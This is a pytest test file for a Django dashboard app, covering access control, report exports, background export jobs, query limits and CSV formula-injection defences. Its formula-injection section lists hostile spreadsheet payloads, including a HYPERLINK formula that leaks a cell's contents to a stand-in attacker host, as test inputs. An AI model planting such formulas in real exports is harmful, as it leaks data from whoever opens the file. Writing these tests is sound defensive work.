"""Dashboard pages and exports: who sees what (404 outside one's subtree), what the files hold,
large exports through the background, and a bounded number of queries per page."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from dashboards import services as dashboard_services
from dashboards.models import Export
from tests.assessments.conftest import make_campaign
from tests.factories import UnitFactory
from units.models import Unit

CITY = reverse("dashboards:city")


def unit_url(code: str) -> str:
    return reverse("dashboards:unit", kwargs={"code": code})


def city_export(table: str, fmt: str) -> str:
    return reverse("dashboards:city_export", kwargs={"table": table, "fmt": fmt})


def unit_export(code: str, table: str, fmt: str) -> str:
    return reverse("dashboards:unit_export", kwargs={"code": code, "table": table, "fmt": fmt})


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def read_xlsx(response) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(body(response)), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


# --- Access ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("persona", "url", "status"),
    [
        ("city_staff", f"{CITY}?unit=QB", 200),
        ("admin", f"{CITY}?unit=QB-1", 200),
        ("reviewer", f"{CITY}?unit=QA-1", 200),
        ("reviewer", f"{CITY}?unit=QB", 404),
        ("reviewer", f"{CITY}?unit=CITY", 404),
        ("editor", f"{CITY}?unit=QA-1-b", 404),
        ("outsider", f"{CITY}?unit=QA", 404),
        ("viewer", unit_url("QA-1-a"), 200),
        ("editor", unit_url("QA-1-a"), 200),
        ("reviewer", unit_url("QA-1-a"), 200),
        ("outsider", unit_url("QA-1-a"), 404),
        ("editor", unit_url("QB-1-a"), 404),
        ("reviewer", unit_url("QB"), 404),
        ("outsider", city_export("units", "xlsx") + "?unit=QA", 404),
        ("reviewer", city_export("completion", "csv") + "?unit=QB", 404),
        ("outsider", unit_export("QA-1-a", "explain", "xlsx"), 404),
        ("viewer", unit_export("QA-1-a", "explain", "csv"), 200),
        ("editor", unit_export("QB-1-a", "trend", "csv"), 404),
    ],
)
def test_dashboards_answer_404_outside_ones_subtree(personas, milestones, client_for, persona, url, status):
    response = client_for(getattr(personas, persona)).get(url)
    assert response.status_code == status


@pytest.mark.parametrize(
    "url", [CITY, unit_url("QA-1-a"), city_export("units", "csv"), unit_export("QA", "trend", "csv")]
)
def test_anonymous_visitors_are_sent_to_log_in(milestones, client, url):
    response = client.get(url)
    assert response.status_code == 302 and response["Location"].startswith(reverse("accounts:login"))


def test_a_campaign_the_user_may_not_see_is_404(tree, personas, milestones, client_for):
    elsewhere = make_campaign(milestones.framework, tree.qb, levels=["branch"], name="Đợt của trường B")
    reviewer = client_for(personas.reviewer)
    assert reviewer.get(f"{CITY}?campaign={elsewhere.pk}").status_code == 404
    assert reviewer.get(f"{unit_url('QA')}?campaign={elsewhere.pk}").status_code == 404
    assert client_for(personas.outsider).get(f"{CITY}?campaign={elsewhere.pk}").status_code == 200


def test_a_district_secretary_lands_on_their_own_district(personas, milestones, client_for):
    response = client_for(personas.reviewer).get(CITY)
    assert response.status_code == 200
    assert response.context["unit"].code == "QA"
    assert [r.unit.code for r in response.context["ov"].children] == ["QA-1"]


def test_without_any_opened_campaign_the_dashboard_says_so(personas, client_for):
    response = client_for(personas.city_staff).get(CITY)
    assert response.status_code == 200
    assert "Chưa có đợt khảo sát nào" in response.content.decode()


# --- What the pages show -----------------------------------------------------------------------


def test_city_dashboard_shows_the_stored_figures_with_computed_at(personas, milestones, client_for):
    response = client_for(personas.city_staff).get(CITY)
    html = response.content.decode()
    assert response.context["ov"].kpi.overall.value == pytest.approx(50.9, abs=0.05)
    assert "50,9" in html and "+10,0" in html  # Vietnamese decimals, signed change
    assert html.count('class="computed-at') >= 6  # every card says when it was computed
    assert 'data-unit="QA"' in html and 'data-unit="QB"' in html


def test_unit_page_explains_the_score_and_suggests_actions(personas, milestones, client_for):
    html = client_for(personas.editor).get(unit_url("QA-1-a")).content.decode()
    assert "Tổ chức ít nhất một buổi sinh hoạt trực tuyến mỗi quý." in html  # guidance of I4, the weakest
    assert "Câu hỏi Q5" in html and "https://minh-chung.example.vn/1" in html  # an answer, an evidence link
    assert "60,9" in html


def test_member_competency_is_on_the_city_dashboard_with_suppressed_groups(
    personas, milestones, member_campaign_scored, client_for
):
    response = client_for(personas.city_staff).get(f"{CITY}?unit=QA")
    card = response.context["members"]
    assert card.campaign == member_campaign_scored
    assert "dưới 5" in response.content.decode()  # the suppressed group is shown as such


# --- Exports ---------------------------------------------------------------------------------


def test_the_heat_map_export_holds_what_the_page_shows(personas, milestones, client_for):
    client = client_for(personas.city_staff)
    page = client.get(CITY).context["ov"]
    rows = read_xlsx(client.get(city_export("units", "xlsx")))
    header, data = rows[0], rows[1:]
    assert header[:5] == ["Mã", "Đơn vị", "Khối", "Điểm tổng hợp", "Mức độ"]
    assert [r[0] for r in data] == [r.unit.code for r in page.children]
    qa = data[0]
    assert qa[3] == page.children[0].overall.value == pytest.approx(50.9, abs=0.05)
    assert qa[4] == "Hình thành"
    assert qa[5:7] == [d.value for d in page.children[0].domains]
    as_csv = read_csv(client.get(city_export("units", "csv")))
    assert [r[0] for r in as_csv[1:]] == [r.unit.code for r in page.children]
    assert as_csv[1][3] == "50.9"


@pytest.mark.parametrize("table", ["completion", "levels", "domains", "members", "subtree"])
def test_every_city_table_downloads_in_both_formats(personas, milestones, member_campaign_scored, client_for, table):
    client = client_for(personas.city_staff)
    xlsx = client.get(city_export(table, "xlsx"))
    assert xlsx.status_code == 200 and xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in xlsx["Content-Disposition"]
    assert len(read_xlsx(xlsx)) >= 2
    as_csv = client.get(city_export(table, "csv"))
    assert as_csv.streaming and len(read_csv(as_csv)) >= 2


def test_unit_exports_hold_the_trend_and_the_explained_answers(personas, milestones, client_for):
    client = client_for(personas.editor)
    trend = read_csv(client.get(unit_export("QA-1-a", "trend", "csv")))
    assert [r[0] for r in trend[1:]] == ["T0", "T1"]  # QA-1-a did not answer T0: empty own score
    assert trend[1][2] == "" and trend[2][2] == "60.9"
    explain = read_xlsx(client.get(unit_export("QA-1-a", "explain", "xlsx")))
    by_question = {r[5]: r for r in explain[1:]}
    assert by_question["Q5"][8] == 80.0 and by_question["Q1"][8] == 40.0
    assert len(explain) - 1 == 11  # every question of the framework


def test_a_large_export_is_built_in_the_background_and_only_its_owner_downloads_it(
    personas, milestones, client_for, settings, django_capture_on_commit_callbacks
):
    settings.EXPORT_INLINE_MAX_ROWS = 2  # the city subtree has 8 units with scores
    client = client_for(personas.city_staff)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(city_export("subtree", "xlsx"))
    export = Export.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse(
        "dashboards:export_status", kwargs={"pk": export.pk}
    )
    export.refresh_from_db()  # Celery runs eagerly in this test: the file is ready
    assert export.status == Export.Status.DONE and export.rows == 8
    status = client.get(response["Location"])
    assert "8 dòng" in status.content.decode()
    download = client.get(reverse("dashboards:export_download", kwargs={"pk": export.pk}))
    rows = read_xlsx(download)
    assert [r[0] for r in rows[1:]] == list(Unit.objects.order_by("path").values_list("code", flat=True))
    for other in (personas.reviewer, personas.admin):
        assert client_for(other).get(response["Location"]).status_code == 404
        assert client_for(other).get(reverse("dashboards:export_download", kwargs={"pk": export.pk})).status_code == 404


def test_an_export_whose_message_was_lost_is_built_by_the_sweep(personas, milestones):
    export = Export.objects.create(
        user=personas.city_staff,
        table="units",
        fmt="csv",
        params={"campaign": milestones.t1.pk, "unit": "QA", "sector": ""},
    )
    Export.objects.filter(pk=export.pk).update(created_at=timezone.now() - timedelta(minutes=2))
    assert dashboard_services.exports_resume() == 1
    export.refresh_from_db()
    assert export.status == Export.Status.DONE and export.rows == 4  # QA, QA-1, QA-1-a, QA-1-b
    assert dashboard_services.exports_resume() == 0  # done once


def test_an_export_for_a_unit_no_longer_visible_fails_with_a_message(personas, milestones):
    export = Export.objects.create(
        user=personas.reviewer, table="units", fmt="csv", params={"campaign": milestones.t1.pk, "unit": "QB"}
    )
    assert dashboard_services.export_build(export_id=str(export.pk)) is False
    export.refresh_from_db()
    assert export.status == Export.Status.FAILED and "không còn" in export.error.lower()


def test_old_exports_are_purged_with_their_files(
    personas, milestones, client_for, settings, django_capture_on_commit_callbacks
):
    settings.EXPORT_INLINE_MAX_ROWS = 0
    with django_capture_on_commit_callbacks(execute=True):
        client_for(personas.city_staff).get(city_export("subtree", "csv"))
    export = Export.objects.get()
    path = export.file.path
    assert dashboard_services.exports_purge(now=timezone.now() + timedelta(days=8)) == 1
    assert not Export.objects.exists()
    assert not os.path.exists(path)


# --- Queries ---------------------------------------------------------------------------------


def _add_children(parent: Unit, n: int) -> None:
    for i in range(n):
        UnitFactory(code=f"{parent.code}-X{i}", name=f"Đơn vị thêm {i}", level=Unit.Level.GRASSROOTS, parent=parent)


def test_the_city_dashboard_runs_a_bounded_number_of_queries(
    personas, milestones, member_campaign_scored, client_for, django_assert_max_num_queries, django_assert_num_queries
):
    client = client_for(personas.city_staff)
    with django_assert_max_num_queries(30):
        first = client.get(CITY)
    assert first.status_code == 200
    with CaptureQueriesContext(connection) as before:
        client.get(f"{CITY}?unit=QA")
    _add_children(Unit.objects.get(code="QA"), 12)  # more rows on the page, not more queries
    with django_assert_num_queries(len(before.captured_queries)):
        client.get(f"{CITY}?unit=QA")


def test_the_unit_page_runs_a_bounded_number_of_queries(
    personas, milestones, member_campaign_scored, client_for, django_assert_max_num_queries
):
    client = client_for(personas.editor)
    with django_assert_max_num_queries(45):
        response = client.get(unit_url("QA-1-a"))
    assert response.status_code == 200


@pytest.mark.parametrize("table", ["units", "completion", "levels", "domains", "members"])
def test_city_exports_run_a_bounded_number_of_queries(
    personas, milestones, member_campaign_scored, client_for, django_assert_max_num_queries, table
):
    with django_assert_max_num_queries(35):
        response = client_for(personas.city_staff).get(city_export(table, "csv"))
        body(response)  # the rows are read while streaming


# --- Formula injection (CSV injection) ---------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1"]


def _cells_of(response, fmt: str) -> list[object]:
    if fmt == "csv":
        return [cell for row in read_csv(response) for cell in row]
    data = body(response)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets), "a cell is stored as a formula"
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_export_turns_user_text_into_a_formula(personas, milestones, member_campaign_scored, client_for, fmt):
    from assessments.models import Question

    for i, unit in enumerate(Unit.objects.order_by("path")):
        Unit.objects.filter(pk=unit.pk).update(name=FORMULAS[i % len(FORMULAS)] + f" {i}")
    Question.objects.filter(framework=milestones.framework).update(text=FORMULAS[0])
    client = client_for(personas.city_staff)
    seen: list[object] = []
    tables = ("units", "completion", "subtree", "levels", "domains", "members")
    urls = [city_export(t, fmt) + f"?campaign={milestones.t1.pk}" for t in tables]
    urls += [unit_export("QA-1-a", t, fmt) + f"?campaign={milestones.t1.pk}" for t in ("trend", "explain")]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        seen += _cells_of(response, fmt)
    texts = [c for c in seen if isinstance(c, str)]
    if fmt == "csv":
        assert not [c for c in texts if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert any(c.startswith("'=HYPERLINK(") for c in texts)  # neutralised, not dropped
    else:
        assert any(c.startswith("=HYPERLINK(") for c in texts)  # the exact text, stored as text
    assert any("-2+3" in c for c in texts) and any("@cmd" in c for c in texts)
